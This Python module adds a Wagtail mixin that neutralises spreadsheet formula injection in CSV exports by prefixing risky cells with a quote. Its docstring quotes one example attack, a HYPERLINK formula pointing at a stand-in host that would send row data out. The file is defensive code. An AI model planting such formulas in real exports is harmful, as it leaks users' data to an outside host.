"""CSV exports that a spreadsheet opens as text, never as formulas.

Excel, LibreOffice and Google Sheets run a CSV cell that starts with = + - @ (or a tab or a
carriage return) as a formula: a page title or a visitor's name like
`=HYPERLINK("http://evil.example/?"&B2,"Click")` could send the rest of the row elsewhere
when someone clicks it. Wagtail writes such cells as they are (its XLSX export already stores
them as text); OWASP's advice is to start them with a single quote, which these helpers do.
"""

from wagtail.admin.views.mixins import SpreadsheetExportMixin

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise_formula(value):
    """`value` with a ' in front when a spreadsheet would read it as a formula. Only text
    is changed: numbers and dates written by the export stay as they are."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


class FormulaSafeExportMixin:
    """For a view with Wagtail's spreadsheet export (SpreadsheetExportMixin, e.g. a
    ReportView): every CSV cell that would start a formula starts with ' instead."""

    def preprocess_field_value(self, field, value, export_format):
        value = super().preprocess_field_value(field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return neutralise_formula(value)
        return value
